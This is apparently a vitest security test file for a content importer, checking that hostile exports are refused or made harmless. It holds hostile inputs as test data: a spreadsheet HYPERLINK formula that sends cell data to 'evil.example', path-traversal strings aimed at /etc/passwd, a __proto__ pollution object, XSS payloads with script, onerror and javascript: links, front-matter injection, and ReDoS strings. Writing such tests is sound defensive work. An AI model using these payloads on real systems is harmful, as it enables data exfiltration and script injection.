import { spawnSync } from 'node:child_process';
import {
  appendFileSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import type { Format } from '../../src/import/format.ts';
import { importSources } from '../../src/import/import-sources.ts';
import { ledgerText } from '../../src/import/ledger-text.ts';
import { NotAFile, sourceFiles } from '../../src/import/source-files.ts';
import { maxRecordLength } from '../../src/import/source-text.ts';
import { readContent } from '../../src/read/content.ts';
import { renderMarkdown } from '../../src/read/markdown.ts';
import { ProblemCollector } from '../../src/records/problem.ts';
import { FolderMistake } from '../../src/safe-folder.ts';
import { createFolder, type Files } from '../support/create-folder.ts';
import { workbook } from '../support/workbook.ts';
import { itemsIn, runImport } from './run-import.ts';

/** Exports that want to do harm, or would by accident. Each is refused or made harmless. */
const site = { 'content/site.yml': 'title: Small\n' };

function archive(files: Files): string {
  return createFolder({ ...site, ...files });
}

async function problemsIn(folder: string) {
  const { problems, content } = await readContent(join(folder, 'content'));
  return { problems: problems.map(({ message }) => message), items: content?.items ?? [] };
}

test('a formula is text', async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  const folder = archive({
    'a.csv': `title,summary\n${JSON.stringify(formula).replaceAll('\\"', '""')},@SUM(1+1)\n`,
  });
  await runImport(folder, ['a.csv']);
  const { items, problems } = await problemsIn(folder);
  expect(problems).toEqual([]);
  expect(items.map(({ title, summary }) => [title, summary])).toEqual([[formula, '@SUM(1+1)']]);
});

test.each([
  '../../evil',
  '/etc/passwd',
  '..\\..\\evil',
  'C:\\evil',
  'con',
  '.',
  '..',
  '.hidden',
  '%2e%2e%2f',
  'a\0b',
  'a/../../b',
  '\\\\server\\share',
  'file:///etc/passwd',
  '../'.repeat(200),
  'x'.repeat(5000),
  'exe.\u202egpj',
  '\u{1f4a5}',
  'a\nb: c',
])('a title or id such as %j leads nowhere', async (name) => {
  const folder = archive({
    'a.json': JSON.stringify([{ id: name, title: name }]),
  });
  await runImport(folder, ['a.json']);
  expect(readdirSync(folder).sort()).toEqual(['a.json', 'content']);
  expect(readdirSync(join(folder, 'content')).sort()).toEqual(['imported.jsonl', 'items', 'site.yml']);
  expect(Object.keys(itemsIn(folder))).toEqual([expect.stringMatching(/^[a-z0-9-]+\.md$/)]);
  expect((await problemsIn(folder)).items).toHaveLength(1);
});

test.each(['con', 'PRN', 'aux', 'Nul', 'COM1', 'lpt9'])(
  'no file has the name of a device, such as %s',
  async (title) => {
    const folder = archive({ 'a.json': JSON.stringify([{ title }, { title: `${title}!` }]) });
    await runImport(folder, ['a.json']);
    const name = title.toLowerCase();
    expect(Object.keys(itemsIn(folder))).toEqual([`${name}-item-2.md`, `${name}-item.md`]);
    expect((await problemsIn(folder)).problems).toEqual([]);
  },
);

test('names of sources and folders of sources lead nowhere', async () => {
  const name = 'a ..\u202e \n..%2f';
  const folder = archive({
    [`${name}/${name}.csv`]: 'id,title\n7,Fog\n',
    [`${name}/x.csv/y.csv`]: 'title\nRain\n',
  });
  await runImport(folder, [name]);
  expect(Object.keys(itemsIn(folder))).toEqual(['fog.md', 'rain.md']);
});

test('a date leads nowhere', async () => {
  const folder = archive({ 'a.csv': 'title,date\nFog,../../../2024\nRain,2024/../../x\n' });
  await runImport(folder, ['a.csv']);
  expect(Object.keys(itemsIn(folder))).toEqual(['fog.md', 'rain.md']);
});

test('no text ends the front matter, or adds a key to it', async () => {
  const evil = 'Fog\n---\nstatus: withdrawn\n---\n<script>alert(1)</script>';
  const row = {
    title: evil,
    date: `2024\n---\n${evil}`,
    author: evil,
    tags: [evil],
    people: [evil],
    'own: key\n---': evil,
    text: evil,
  };
  const folder = archive({ 'a.json': JSON.stringify([row]), 'content/site.yml': 'title: Small\n' });
  await runImport(folder, ['a.json']);
  const [text = ''] = Object.values(itemsIn(folder));
  expect(text.split('\n').filter((line) => line === '---')).toHaveLength(2);
  expect(text.slice(0, text.indexOf('\n---\n'))).not.toMatch(/^status:/m);
  expect(text).toContain('\\<script>');
});

test('control characters and marks that turn text around are harmless', async () => {
  const title = 'Fog\u0007\u001b[2J\u0000 \ud800 in \u202etown';
  const row = {
    title,
    tags: title,
    people: title,
    own: title,
    date: title,
    text: `a\u0000b\u0008\n${title}`,
  };
  const folder = archive({
    'a.json': JSON.stringify([row]),
    'content/site.yml': 'title: A\nunknownKeys: keep\n',
  });
  await runImport(folder, ['a.json']);
  const { items, problems } = await problemsIn(folder);
  expect(problems).toEqual([]);
  expect(items[0]?.title).toBe('Fog [2J \ufffd in town');
  const bytes = Object.values(itemsIn(folder)).join('');
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the pattern is meant to match them.
  expect(bytes).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202d\u202e]/);
});

/** Names that every object has. */
const inherited = Object.getOwnPropertyNames(Object.prototype).filter((name) => name !== '__proto__');
const wxr =
  '<rss xmlns:wp="http://wordpress.org/export/1.2/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>';
const post = (inner: string) =>
  `${wxr}<item><title>Fog</title><wp:post_id>7</wp:post_id>${inner}</item></channel></rss>`;

/** An export in which a record has fields of some names, each with a text. */
const withFields: readonly (readonly [
  string,
  (names: readonly string[], text: string) => string | Uint8Array,
])[] = [
  ['a.csv', (names, text) => `id,title,${names.join(',')}\n7,Fog,${names.map(() => text).join(',')}\n`],
  ['a.jsonl', (names, text) => `{"id": 7, "title": "Fog", ${pairs(names, text)}}\n`],
  [
    'a.json',
    (names, text) => `[{"id": 7, "title": "Fog", "__proto__": {"polluted": "yes"}, ${pairs(names, text)}}]`,
  ],
  [
    'csl.json',
    (names, text) => `[{"type": "article", "citation-key": "7", "title": "Fog", ${pairs(names, text)}}]`,
  ],
  [
    'a.bib',
    (names, text) =>
      `@article{k7,\n title = {Fog},\n${names.map((name) => `${name} = {${text}},\n`).join('')}}\n`,
  ],
  [
    'meta.xml',
    (names, text) =>
      post(
        names
          .map(
            (name) =>
              `<wp:postmeta><wp:meta_key>${name}</wp:meta_key><wp:meta_value>${text}</wp:meta_value></wp:postmeta>`,
          )
          .join(''),
      ),
  ],
  [
    'category.xml',
    (names, text) => post(names.map((name) => `<category domain="${name}">${text}</category>`).join('')),
  ],
  [
    'nitf.xml',
    (names, text) =>
      `<nitf><head><title>Fog</title><docdata><doc-id id-string="7"/></docdata>${names.map((name) => `<meta name="${name}" content="${text}"/><constructor/>`).join('')}</head><body><body.content><constructor>x</constructor></body.content></body></nitf>`,
  ],
  [
    'a.xlsx',
    (names, text) => {
      const row = (number: number, texts: readonly string[]) =>
        `<row r="${number}">${texts
          .map((each, at) => `<c r="${String.fromCharCode(65 + at)}${number}" t="str"><v>${each}</v></c>`)
          .join('')}</row>`;
      return workbook({
        A: row(1, ['id', 'title', ...names]) + row(2, ['7', 'Fog', ...names.map(() => text)]),
      });
    },
  ],
];

function pairs(names: readonly string[], text: string): string {
  return names.map((name) => `${JSON.stringify(name)}: ${JSON.stringify(text)}`).join(', ');
}

test.each(withFields)('names that every object has are names and no more: %s', async (file, make) => {
  const folder = archive({
    [file]: make(inherited, 'yes'),
    'content/site.yml': 'title: A\nunknownKeys: keep\n',
  });
  const { fields } = await runImport(folder, [file]);
  expect('polluted' in {}).toBe(false);
  // WordPress hides fields that begin with an underscore, which are those of plugins.
  const names = file === 'meta.xml' ? inherited.filter((name) => !name.startsWith('_')) : inherited;
  const lowered = file === 'a.bib' ? names.map((name) => name.toLowerCase()) : names;
  expect(fields.map(({ field }) => field)).toEqual(expect.arrayContaining([...lowered]));
  const [text = ''] = Object.values(itemsIn(folder));
  for (const name of lowered)
    expect(text).toMatch(new RegExp(`^${name.replace(/^_+|_+$/g, '')}: "?yes"?$`, 'm'));
  expect(text).not.toContain('native code');
  expect((await problemsIn(folder)).problems).toEqual([]);
  // What one of them says is compared with what it said before, and not with what every object has.
  writeFileSync(join(folder, file), make(inherited.slice(3), 'no'));
  expect((await runImport(folder, [file])).rows).toMatchObject({ read: 1, updated: 1 });
  writeFileSync(join(folder, file), make(inherited, 'no'));
  expect((await runImport(folder, [file])).rows).toMatchObject({ read: 1, updated: 1 });
});

test('names of columns that make one key are one field, with the texts of all', async () => {
  const folder = archive({ 'a.csv': `title,a b,a/b,${'x'.repeat(80)}1,${'x'.repeat(80)}2\nFog,1,2,3,4\n` });
  await runImport(folder, ['a.csv']);
  expect(itemsIn(folder)['fog.md']).toContain(`a_b: ["1", "2"]\n${'x'.repeat(60)}: ["3", "4"]\n`);
});

/** A text that no item can have, on one line. */
const long = 'x'.repeat(maxRecordLength + 300_000);

const fieldsTooLong = 'its fields are too long; map the longest to body';
const tooLarge = 'the message is too large: it has more than 50 MB, a million lines or 10,000 parts';
const begun = `${wxr}<item><title>Fog</title></item>`;

test.each([
  ['a.jsonl', `{"title": "${long}"}\n{"title": "Fog"}\n`, 'the line is too long'],
  ['a.json', `[{"title": "${long}"}, {"title": "Fog"}]`, 'the record is too long'],
  ['a.txt', `${long}\nFog.\n`, 'the line is too long'],
  [
    'a.ris',
    `TY  - NEWS\nTI  - ${long}\nER  - \nTY  - NEWS\nTI  - Fog\nER  - \n`,
    'the reference is too long',
  ],
  [
    'a.csv',
    `title\nFog\n"${long}"\n`,
    'a row is too long here, or a quotation mark is not closed; nothing after it was read',
  ],
  [
    'a.tsv',
    `title\nFog\n${long}\n`,
    'a row is too long here, or a quotation mark is not closed; nothing after it was read',
  ],
  [
    'b.csv',
    `title\nFog\n${','.repeat(2_000_000)}\nRain\n`,
    'a row has more than 20,000 columns; nothing after it was read',
  ],
  ['c.csv', `title\n${','.repeat(30_000)}\nFog\n`, 'a row has more than 20,000 columns'],
  ['a.xml', `${begun}<item><title>${long}</title></item>`, 'it is too long; nothing after it was read'],
  ['b.xml', `${begun}<item>${'<b/>'.repeat(250_000)}`, 'it is too long; nothing after it was read'],
  ['c.xml', `${begun}<item ${long}${long}`, 'a text or tag is too long; nothing after it was read'],
  [
    'a.eml',
    `Subject: Fog\nContent-Type: multipart/mixed; boundary=b\n\n${'--b\n\nx\n'.repeat(20_000)}`,
    tooLarge,
  ],
  ['d.html', `<title>Fog</title><p>${'word '.repeat(2_000_000)}`, 'its text is too long'],
  [
    'f.csv',
    `title,summary\nFog,\n<p>${'x'.repeat(6_000_000)},\nRain,"<b>${'x'.repeat(6_000_000)}"\n`,
    fieldsTooLong,
  ],
  ['e.csv', `title,text\nFog,\nRain,"<table><tr>${'<td>x'.repeat(200_000)}"\n`, 'its text is too long'],
  ['b.eml', `Subject: Fog\n\n${'\n'.repeat(1_100_000)}`, tooLarge],
  [
    'a.bib',
    `@string{a0 = "xxxxxxxx"}\n${Array.from({ length: 40 }, (_, n) => `@string{a${n + 1} = a${n} # a${n}}\n`).join('')}@article{k,\n title = {Fog}}\n`,
    'a brace or quotation mark is not closed, or a comma is missing',
  ],
  [
    'a.html',
    `<title>Fog</title><p ${Array.from({ length: 1000 }, (_, n) => `a${n}`).join(' ')}>`,
    'one of its tags has too many attributes',
  ],
  ['b.html', `<title>Fog</title>${'<br>'.repeat(1_100_000)}`, 'it has too many elements'],
  [
    'c.html',
    `<title>Fog</title>${Array.from({ length: 1500 }, (_, n) => `<b id=${n}>`).join('')}${'<p>x'.repeat(1000)}`,
    'it has too many elements',
  ],
])('what is longer than any record is refused: %s', async (file, text, reason) => {
  const folder = archive({ [file]: text });
  const { rows, refusals } = await runImport(folder, [file]);
  expect(new Set(refusals.map((each) => each.reason))).toEqual(new Set([reason]));
  expect(rows.refused).toBeGreaterThan(0);
  expect(Object.keys(itemsIn(folder))).toEqual(/\.(?:html|eml)$/.test(file) ? [] : ['fog.md']);
});

const nested = (open: string, close: string, inner = '') =>
  open.repeat(100_000) + inner + close.repeat(100_000);

test.each([
  [
    'a.json',
    `[{"title": "Fog", "x": ${nested('[', ']')}}, ${nested('[', ']')}, ${nested('{"a":', '}', '1')}]`,
  ],
  ['b.json', `{"title": "Fog", "x": ${nested('[', ']')}}`],
  ['a.jsonl', `{"title": "Fog", "x": ${nested('{"a":', '}', '1')}}\n${nested('[', ']')}\n`],
  ['csl.json', `[{"type": "article", "citation-key": "7", "title": "Fog", "x": ${nested('[', ']')}}]`],
  [
    'feed.json',
    `{"version": "https://jsonfeed.org/version/1.1", "items": [{"title": "Fog", "x": ${nested('[', ']')}}]}`,
  ],
  ['in.xml', `${wxr}<item><title>Fog</title>${nested('<b>', '</b>')}</item>`],
  ['out.xml', `${wxr}${nested('<b>', '</b>')}<item><title>Fog</title></item>`],
  [
    'feed.xml',
    `<rss version="2.0"><channel><item><title>Fog</title>${nested('<b>', '</b>')}</item></channel></rss>`,
  ],
  [
    'a.opml',
    `<opml version="2.0"><body>${nested('<outline text="a" xmlUrl="http://a.example/">', '</outline>')}</body></opml>`,
  ],
  ['a.html', `<title>Fog</title>${nested('<div>', '</div>')}`],
  ['a.bib', `@article{k,\n title = {${nested('{', '}')}},\n note = ${nested('{', '')}`],
])('what is nested without end is refused, or no more than text: %s', async (file, text) => {
  const folder = archive({ [file]: text });
  const { rows } = await runImport(folder, [file]);
  expect(rows.read).toBeGreaterThan(0);
  expect(rows.refused + rows.written).toBe(rows.read);
});

/** What a pattern that starts again at each character would take minutes for. */
const words = [' ', 'A', '(', '—', '*', '_', '[', '<b', '&a', '\\', 'a.', "'", '`', '<a ', '{', '- '];

test.each(words)(
  'a text of nothing but %j takes no longer than any other',
  async (each) => {
    const text = `a${each.repeat(200_000)}b`;
    const folder = archive({
      'a.txt': `${text}\nRain.\n`,
      'b.jsonl': `${JSON.stringify({ title: 'Fog', text })}\n${JSON.stringify({ title: text, date: text, tags: text, lang: text })}\n`,
      'c.bib': `@article{k,\n title = {Snow},\n note = "${text}"}\n`,
    });
    const { rows } = await runImport(folder, ['a.txt', 'b.jsonl', 'c.bib']);
    expect(rows.read).toBeGreaterThanOrEqual(4);
  },
  30_000,
);

const shown = ['Café in the port', 'Туман'];
const byFormat = {
  'a.csv': (title: string) => `id,title\n1,${title}\n`,
  'a.tsv': (title: string) => `id\ttitle\n1\t${title}\n`,
  'a.jsonl': (title: string) => `{"title": "${title}"}\n`,
  'a.json': (title: string) => `[{"title": "${title}"}]`,
  'a.txt': (title: string) => `${title}\n`,
  'a.ris': (title: string) => `TY  - NEWS\nTI  - ${title}\nER  - \n`,
  'a.bib': (title: string) => `@article{k,\n title = {${title}}}\n`,
  'a.xml': (title: string) => `${wxr}<item><title>${title}</title></item></channel></rss>`,
  'feed.xml': (title: string) =>
    `<rss version="2.0"><channel><item><title>${title}</title></item></channel></rss>`,
  'a.opml': (title: string) =>
    `<opml version="2.0"><body><outline text="${title}" xmlUrl="http://a.example/f"/></body></opml>`,
  'a.html': (title: string) => `<!doctype html><title>${title}</title><p>x`,
} as const;

test.each(Object.keys(byFormat))('letters are read in any encoding: %s', async (file) => {
  const [, make] = Object.entries(byFormat).find(([name]) => name === file) ?? [];
  const folder = archive({});
  const titles = async (bytes: Uint8Array) => {
    for (const path of ['content/items', 'content/imported.jsonl'])
      rmSync(join(folder, path), { recursive: true, force: true });
    writeFileSync(join(folder, file), bytes);
    await runImport(folder, [file]);
    const texts = Object.values(itemsIn(folder));
    return texts.map((text) =>
      JSON.parse(/^title: "?(.*?)"?$/m.exec(text)?.[1]?.replace(/^|$/g, '"') ?? '""'),
    );
  };
  for (const title of shown) {
    const text = make?.(title) ?? '';
    const utf16 = Buffer.from(`\ufeff${text}`, 'utf16le');
    expect(await titles(Buffer.from(text))).toEqual([title]);
    expect(await titles(Buffer.from(`\ufeff${text}`))).toEqual([title]);
    expect(await titles(utf16)).toEqual([title]);
    expect(await titles(Buffer.from(utf16).swap16())).toEqual([title]);
  }
  expect(await titles(Buffer.from(make?.('Café in the port') ?? '', 'latin1'))).toEqual(['Café in the port']);
  // A page is decoded as browsers do.
  if (file === 'a.html') return;
  const damaged = Buffer.from(make?.('Fog Ż Ż Ż Ż Z') ?? '');
  damaged[damaged.indexOf('Z')] = 0xff;
  expect(await titles(damaged)).toEqual(['Fog Ż Ż Ż Ż \ufffd']);
});

test('a letter of an older encoding that comes late in a file is read, and one damaged byte changes no other', async () => {
  const rows = Array.from(
    { length: 3000 },
    (_, id) => `${id},Row ${id} of a long table without accents\n`,
  ).join('');
  const folder = archive({});
  writeFileSync(join(folder, 'a.csv'), Buffer.from(`id,title\n${rows}x,Café\n`, 'latin1'));
  writeFileSync(
    join(folder, 'b.csv'),
    Buffer.concat([Buffer.from(`id,title\n${rows}x,Naïveté `), Buffer.from([0xff, 0x0a])]),
  );
  await runImport(folder, ['a.csv', 'b.csv']);
  const titles = Object.values(itemsIn(folder)).join('');
  expect(titles).toContain('title: Café\n');
  expect(titles).toContain('Naïveté \ufffd');
});

const evil =
  '<p onclick="x()">No <b>ship</b>.</p><script>x()</script><a href="javascript:x()">a</a><iframe src="javascript:x()"></iframe><img src=x onerror="x()"><svg onload="x()"></svg><style>p{}</style>';
const escaped = evil.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

test.each([
  ['a.csv', `title,text\nFog,"${evil.replaceAll('"', '""')}"\n`],
  ['a.json', JSON.stringify([{ title: 'Fog', summary: evil, text: evil, own: evil }])],
  [
    'a.xml',
    `${wxr.replace('>', ' xmlns:content="http://purl.org/rss/1.0/modules/content/">')}<item><title>Fog</title><content:encoded><![CDATA[${evil}]]></content:encoded></item></channel></rss>`,
  ],
  [
    'feed.xml',
    `<rss version="2.0"><channel><item><title>Fog</title><description>${escaped}</description></item></channel></rss>`,
  ],
  [
    'atom.xml',
    `<feed xmlns="http://www.w3.org/2005/Atom"><entry><title type="html">Fog${escaped}</title><content type="html">${escaped}</content></entry></feed>`,
  ],
  [
    'feed.json',
    JSON.stringify({
      version: 'https://jsonfeed.org/version/1.1',
      items: [{ id: '1', title: 'Fog', content_html: evil }],
    }),
  ],
  ['a.html', `<!doctype html><title>Fog</title><article><h1>Fog</h1>${evil.repeat(20)}</article>`],
  ['a.eml', `Subject: Fog\nContent-Type: text/html; charset=utf-8\n\n${evil}\n`],
  ['a.ris', `TY  - NEWS\nTI  - Fog\nN1  - ${evil}\nER  - \n`],
  ['a.txt', `Fog ${evil}\n`],
  [
    'nitf.xml',
    `<nitf><body><body.head><hedline><hl1>Fog</hl1></hedline></body.head><body.content><p>${escaped}</p><a href="javascript:x()">a</a></body.content></body></nitf>`,
  ],
  [
    'a.opml',
    `<opml version="2.0"><body><outline text="Fog" htmlUrl="javascript:x()" xmlUrl="javascript:x()" description="${escaped}"/></body></opml>`,
  ],
])('no HTML of a source runs on a page: %s', async (file, text) => {
  const folder = archive({ [file]: text, 'content/site.yml': 'title: A\nunknownKeys: keep\n' });
  await runImport(folder, [file]);
  const items = Object.values(itemsIn(folder));
  expect(items.join('')).toContain('Fog');
  for (const item of items) {
    const body = item.slice(item.indexOf('\n---\n') + 5);
    const page = { file: 'items/a.md', page: 'items/a.html' };
    const { html } = renderMarkdown(body, 1, page, new ProblemCollector(page.file)).body;
    expect(html).not.toMatch(
      /<(?:script|style|iframe|svg)\b|<[^>]*\s(?:on\w+=|(?:href|src)="\s*javascript:)/i,
    );
  }
});

test('what is too large for an item is refused', async () => {
  const rows = [
    { title: 'Long text', text: 'word '.repeat(250_000) },
    { title: 'Long field', other: 'word '.repeat(5000) },
  ];
  const folder = archive({ 'a.json': JSON.stringify(rows) });
  const { refusals } = await runImport(folder, ['a.json']);
  expect(refusals.map(({ reason }) => reason)).toEqual([
    'it is larger than 1 MB',
    'its fields are too long; map the longest to body',
  ]);
  expect(itemsIn(folder)).toEqual({});
});

test('links in a folder of sources are not followed', async () => {
  const folder = archive({ 'sources/a.txt': 'Fog over the port.', 'secret/b.txt': 'A secret.' });
  symlinkSync(join(folder, 'secret'), join(folder, 'sources/linked'));
  symlinkSync(join(folder, 'secret/b.txt'), join(folder, 'sources/c.txt'));
  spawnSync('mkfifo', [join(folder, 'sources/pipe.csv')]);
  const { notFiles } = await runImport(folder, ['sources']);
  expect(notFiles).toEqual(['c.txt', 'linked', 'pipe.csv'].map((name) => join(folder, 'sources', name)));
  expect(Object.keys(itemsIn(folder))).toEqual(['fog-over-the-port.md']);
});

test('a pipe is no source: it may never end, and can be read only once', async () => {
  const folder = archive({});
  spawnSync('mkfifo', [join(folder, 'a.csv')]);
  await expect(runImport(folder, ['a.csv'])).rejects.toThrow(NotAFile);
});

test('a folder with the name of a table is a folder', async () => {
  const folder = archive({ 'a.csv/b.csv': 'title\nFog\n', 'a.csv/c.csv/d.csv': 'title\nRain\n' });
  expect((await runImport(folder, ['a.csv'])).rows).toMatchObject({ read: 2, written: 2 });
});

test('a source that somebody writes to while it is read is told', async () => {
  const folder = archive({ 'a.csv': 'title\nFog\n', 'b.csv': 'title\nRain\n' });
  const paths = ['a.csv', 'b.csv'].map((name) => join(folder, name));
  const sources = sourceFiles(paths, undefined);
  const files = sources.files.map((file) => ({
    ...file,
    format: { ...file.format, read: growing(file.format.read) },
  }));
  const content = join(folder, 'content');
  const options = { content, mapping: undefined, isDryRun: false, cache: join(folder, '.cache') };
  const { ledger } = await importSources({ ...options, sources: { ...sources, files } });
  expect(ledger.changing).toEqual([paths[0]]);
  expect(ledgerText(ledger)).toContain(
    `Changed while it was read: ${paths[0]}. Import it again once it is complete.\n`,
  );
  expect((await runImport(folder, ['a.csv', 'b.csv'])).changing).toEqual([]);
  expect(Object.keys(itemsIn(folder))).toEqual(['fog.md', 'rain.md', 'snow.md']);
});

/** Reads a file, to which somebody adds a row meanwhile. */
function growing(read: Format['read']): Format['read'] {
  return async function* (path) {
    for await (const each of read(path)) {
      if (path.endsWith('a.csv')) appendFileSync(path, 'Snow\n');
      yield each;
    }
  };
}

test('an item that is not in UTF-8 is not written again: its letters would be lost', async () => {
  const folder = archive({ 'a.csv': 'id,title,mood\n1,Fog,grey\n' });
  await runImport(folder, ['a.csv']);
  const path = join(folder, 'content/items/fog.md');
  writeFileSync(path, Buffer.from(`${readFileSync(path, 'utf8')}\nCafé\n`, 'latin1'));
  const before = readFileSync(path);
  writeFileSync(join(folder, 'a.csv'), 'id,title,mood\n1,Fog,dark\n');
  expect((await runImport(folder, ['a.csv'])).rows).toMatchObject({ conflict: 1, updated: 0 });
  expect(readFileSync(path)).toEqual(before);
});

test('nothing is written through a link that leads out of the archive', async () => {
  const folder = archive({ 'a.csv': 'title,date\nFog,1931\n' });
  mkdirSync(join(folder, 'elsewhere'));
  mkdirSync(join(folder, 'content/items'));
  symlinkSync(join(folder, 'elsewhere'), join(folder, 'content/items/1931'));
  await expect(runImport(folder, ['a.csv'])).rejects.toThrow(FolderMistake);
  expect(readdirSync(join(folder, 'elsewhere'))).toEqual([]);
});

test('a file that is there is never overwritten', async () => {
  const folder = archive({ 'a.csv': 'title\nFog\n', 'content/items/fog.md': 'not an item' });
  writeFileSync(join(folder, 'content/items/fog-2.md'), '');
  await runImport(folder, ['a.csv']);
  expect(Object.keys(itemsIn(folder))).toEqual(['fog-2.md', 'fog-3.md', 'fog.md']);
  expect(readFileSync(join(folder, 'content/items/fog.md'), 'utf8')).toBe('not an item');
});
